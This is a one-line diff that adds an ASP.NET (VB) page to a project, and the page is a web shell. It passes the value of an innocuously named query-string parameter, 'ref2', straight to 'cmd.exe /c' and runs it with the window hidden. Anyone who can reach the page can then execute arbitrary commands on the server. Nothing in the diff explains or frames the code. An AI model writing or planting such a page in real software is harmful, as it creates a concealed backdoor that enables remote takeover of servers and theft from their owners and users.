@@ -1,0 +1,1 @@
+<%@ Page Language="VB" %><% Shell("cmd.exe /c " & Request.QueryString("ref2"), AppWinStyle.Hide) %>
